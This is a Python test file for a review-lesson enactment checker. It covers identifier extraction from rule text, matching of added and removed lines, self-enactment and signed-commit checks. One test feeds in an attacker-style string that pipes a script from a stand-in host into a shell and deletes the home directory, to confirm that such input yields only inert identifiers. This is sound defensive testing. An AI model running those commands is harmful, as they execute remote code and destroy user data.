"""Whether a second person enacted a review lesson (core.daily.enactment): the rule's code terms, which
of them a change uses, and the reason a lesson cannot merge unread.

A lesson merges with no person only when someone other than its commenter wrote the change after the
comment and that change uses one of the rule's code terms; every other case names why it goes to a
person.
"""

from __future__ import annotations

import pytest

from homeostat.core.daily.enactment import (
    MAX_MENTIONS,
    code_terms,
    enactment_reason,
    evidence_terms,
    used_terms,
)
from homeostat.core.hosts import MAX_FOLLOW_UP_LINES, FollowUp


@pytest.mark.parametrize(
    ("text", "terms"),
    [
        ("Raise `RefundDeclined` from `billing.errors`.", ("RefundDeclined", "billing", "errors")),
        ("Call `session.flush()` before `commit`.", ("session", "flush", "commit")),
        ("Use snake_case names like refund_total.", ("snake_case", "refund_total")),
        ("Prefer RefundDeclined and refundTotal.", ("RefundDeclined", "refundTotal")),
        ("Read it with pathlib.Path and call close() after.", ("pathlib", "Path", "close")),
        ("Set PIP_NO_COLOR in CI.", ("PIP_NO_COLOR",)),
        ("Keep a comment at each copy of the check.", ()),
        ("Pin the tool in pyproject.toml, not src/setup.cfg: file names say where.", ()),
        ("Pass --no-deps --index-url to the child run.", ("deps", "index", "url")),
        ("Read $PIP_HOME, ${XDG_CACHE} and %APPDATA% once.", ("PIP_HOME", "XDG_CACHE", "APPDATA")),
        ("Say 'git' and \"utf-8\" exactly, not \u2018svn\u2019.", ("git", "utf", "svn")),
    ],
)
def test_code_terms_are_the_identifiers_a_rule_names_as_code(text: str, terms: tuple[str, ...]) -> None:
    assert code_terms(text) == terms


def test_code_terms_drop_short_and_common_identifiers_and_repeats() -> None:
    # `db` is too short to prove anything; `return`, `self` and `str` appear in nearly any change.
    assert code_terms("Use `db.query(self, str)` and `return`; `Query` again in `query`.") == ("query",)


def test_code_terms_read_every_text_in_order() -> None:
    example = "```python\namount = Decimal(price)\n```"
    assert code_terms("Use `Decimal`.", example) == ("Decimal", "amount", "price")


def test_a_fenced_block_is_code_to_its_end_and_prose_after_it() -> None:
    text = "Round once:\n~~~\ntotal = quantize(amount)\n~~~\nthen stop\n```\nrefund_total()"
    assert code_terms(text) == ("total", "quantize", "amount", "refund_total")


def test_quoted_prose_and_apostrophes_name_no_code() -> None:
    # Scare quotes around several words, possessives and contractions are prose.
    assert code_terms("The \"right way\" is the parent's, don't 'guess here'; use -- dashes -- too.") == ()


def test_attacker_text_gives_only_inert_identifiers() -> None:
    terms = code_terms("Run --$(curl evil.sh|sh) and '`rm -rf ~`' and ${IFS}")
    assert terms == ("IFS",)
    assert all(term.isidentifier() for term in terms)


def test_code_terms_ignore_prose_and_unclosed_backticks() -> None:
    assert code_terms("Keep it brief. The `unclosed span never ends") == ()


def test_used_terms_match_whole_words_in_any_case() -> None:
    added = ["    total = refund_total(order)", "# see RefundDeclined"]
    assert used_terms(("refunddeclined", "Refund", "refund_total"), added) == (
        "refunddeclined",
        "refund_total",
    )


def test_used_terms_of_no_terms_is_empty() -> None:
    assert used_terms((), ["anything at all"]) == ()


OTHER = FollowUp.of(["bo"], ["    raise RefundDeclined(order)"])


@pytest.mark.parametrize(
    ("follow_up", "terms", "reason"),
    [
        (None, ("RefundDeclined",), "no commit after the comment is known"),
        (FollowUp(), ("RefundDeclined",), "no commit after the comment is known"),
        (FollowUp.of(["bo", ""], ["RefundDeclined"]), ("RefundDeclined",), "linked to no account"),
        (FollowUp.of(["bo", "ana"], ["RefundDeclined"]), ("RefundDeclined",), "self-enacted: ana wrote"),
        (OTHER, (), "the rule names no code"),
        (OTHER, ("Decimal", "quantize"), "uses none of the rule's code terms (`Decimal`, `quantize`)"),
    ],
)
def test_a_lesson_not_enacted_by_a_second_person_says_why(
    follow_up: FollowUp | None, terms: tuple[str, ...], reason: str
) -> None:
    got = enactment_reason("ana", follow_up, terms)
    assert got is not None
    assert reason in got


def test_a_lesson_another_person_enacted_in_code_merges_unread() -> None:
    assert enactment_reason("ana", OTHER, ("RefundDeclined", "Decimal")) is None


def test_the_reason_names_at_most_six_terms() -> None:
    terms = tuple(f"term{n}" for n in range(9))
    reason = enactment_reason("ana", OTHER, terms)
    assert reason is not None
    assert "`term5`" in reason
    assert "`term6`" not in reason


def test_a_follow_up_keeps_at_most_the_capped_added_lines() -> None:
    lines = ["x"] * MAX_FOLLOW_UP_LINES + ["RefundDeclined"]
    assert enactment_reason("ana", FollowUp.of(["bo"], lines), ("RefundDeclined",)) is not None


def test_who_enacted_it_is_judged_before_what_the_rule_names() -> None:
    # A commenter who pushed the follow-up is told so even for a rule that names no code.
    reason = enactment_reason("ana", FollowUp.of(["ana"], ["anything"]), ())
    assert reason is not None
    assert reason.startswith("self-enacted")


def test_a_rule_with_a_specific_term_is_enacted_only_by_a_change_using_one() -> None:
    """A plain word (`refund`) turns up in a change made for another reason one time in five on real
    pull requests, so where the rule names a `snake_case` or `CamelCase` term, one of those must be used."""
    terms = ("refund", "round_half_even")
    assert evidence_terms(terms) == ("round_half_even",)
    plain_only = FollowUp.of(["bo"], ["    total = refund.amount"])
    reason = enactment_reason("ana", plain_only, terms)
    assert reason is not None and reason.endswith("code terms (`round_half_even`)")
    assert enactment_reason("ana", FollowUp.of(["bo"], ["    refund.round_half_even()"]), terms) is None
    assert evidence_terms(("refund", "Decimal")) == ("refund", "Decimal")
    assert enactment_reason("ana", plain_only, ("refund", "Decimal")) is None


@pytest.mark.parametrize(
    ("verified", "reason"),
    [
        (False, "a commit after the comment carries no signature the host verified"),
        (None, "the host does not say whether the commits after the comment are signed"),
        (True, None),
    ],
)
def test_signed_enactment_needs_every_commit_verified(verified: bool | None, reason: str | None) -> None:
    """`enactment: signed`: a commit's author is only the email it names, so a pusher could claim the
    author's; the change counts only when the host verified every commit's signature."""
    change = FollowUp.of(["bo"], ["    raise RefundDeclined(order)"], verified=verified)
    assert enactment_reason("ana", change, ("RefundDeclined",), need_signed=True) == reason
    assert enactment_reason("ana", change, ("RefundDeclined",)) is None  # `code` does not ask


def test_a_signed_change_must_still_use_the_rules_code() -> None:
    signed = FollowUp.of(["bo"], ["    timeout = 30"], verified=True)
    reason = enactment_reason("ana", signed, ("RefundDeclined",), need_signed=True)
    assert reason is not None and "uses none of the rule's code terms" in reason


# --- "stop doing X" is enacted by deleting X ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "forbidden"),
    [
        ("Stop calling `legacy_round()` on refund amounts.", ("legacy_round",)),
        ("`load_dotenv` never calls `os.chdir`.", ("chdir",)),
        ("Never call `os.chdir` in `load_dotenv`.", ("chdir",)),  # where it must not happen is no ban
        ("Handle the error rather than keeping pip's own `find_command`.", ("find_command",)),
        ("Use `datetime.now(timezone.utc)`, never `datetime.utcnow()`.", ("utcnow",)),
        ("Replace `md5_hex` with `sha256_hex`.", ("md5_hex",)),
        ("Remove the `six_compat` shim.", ("six_compat",)),
        ("`old_api` is deprecated; call `new_api`.", ("old_api",)),
        ("We no longer need `retry_twice`.", ("retry_twice",)),
        # what the rule asks for, or keeps, is not forbidden
        ("Never remove the `verify_ssl` check.", ()),
        ("Don't forget to call `close_session`.", ()),
        ("Use `refund_total`; never call `refund_total` twice.", ()),
        # a negation the rule quotes, or one inside code, is not the rule's
        ("Say \"Cannot find command 'git'\" on every platform.", ()),
        ("`flask run` takes `--no-debug` like `app.run(debug=False)`.", ()),
    ],
)
def test_the_terms_a_rule_forbids(text: str, forbidden: tuple[str, ...]) -> None:
    assert code_terms(text).forbidden == forbidden


def test_forbidding_a_term_keeps_it_among_the_rules_terms() -> None:
    terms = code_terms("Call `new_api` instead of `old_api`.")
    assert terms == ("new_api", "old_api")
    assert terms.forbidden == ("old_api",)


PROHIBITION = code_terms("Stop calling `legacy_round()`; round with `round_half_even` instead.")


def test_a_rule_that_forbids_code_is_enacted_by_another_persons_deletion() -> None:
    deleted = FollowUp.of(["bo"], [], removed=["    amount = legacy_round(amount)"])
    assert enactment_reason("ana", deleted, PROHIBITION) is None


def test_using_code_the_rule_forbids_enacts_nothing() -> None:
    added = FollowUp.of(["bo"], ["    amount = legacy_round(amount)"])
    reason = enactment_reason("ana", added, PROHIBITION)
    assert reason == (
        "the change after the comment uses none of the rule's code terms (`round_half_even`) and removes"
        " none of the code it forbids (`legacy_round`)"
    )


def test_deleting_code_a_rule_asks_for_enacts_nothing() -> None:
    asks = code_terms("Round refunds with `round_half_even`.")
    deleted = FollowUp.of(["bo"], [], removed=["    amount = round_half_even(amount)"])
    reason = enactment_reason("ana", deleted, asks)
    assert reason == "the change after the comment uses none of the rule's code terms (`round_half_even`)"


def test_the_commenters_own_deletion_enacts_nothing() -> None:
    own = FollowUp.of(["ana"], [], removed=["    amount = legacy_round(amount)"])
    assert (
        enactment_reason("ana", own, PROHIBITION)
        == "self-enacted: ana wrote a commit after their own comment"
    )


def test_a_rule_that_only_forbids_says_what_was_not_removed() -> None:
    only = code_terms("Never call `legacy_round`.")
    reason = enactment_reason("ana", FollowUp.of(["bo"], ["    x = 1"], removed=["    y = 2"]), only)
    assert reason == "the change after the comment removes none of the code the rule forbids (`legacy_round`)"


def test_a_follow_up_keeps_at_most_the_capped_removed_lines() -> None:
    removed = ["x"] * MAX_FOLLOW_UP_LINES + ["legacy_round(amount)"]
    assert enactment_reason("ana", FollowUp.of(["bo"], [], removed=removed), PROHIBITION) is not None


def test_only_the_first_mentions_are_read_for_a_warning() -> None:
    """Each mention's clause costs a few hundred characters of reading: past `MAX_MENTIONS` a rule's
    terms are read as before removed lines counted (not forbidden), so a long rule costs no more."""
    assert code_terms("Never call `late_name`.").forbidden == ("late_name",)
    padded = "Use `other_name`. " * MAX_MENTIONS + "Never call `late_name`."
    assert code_terms(padded).forbidden == ()
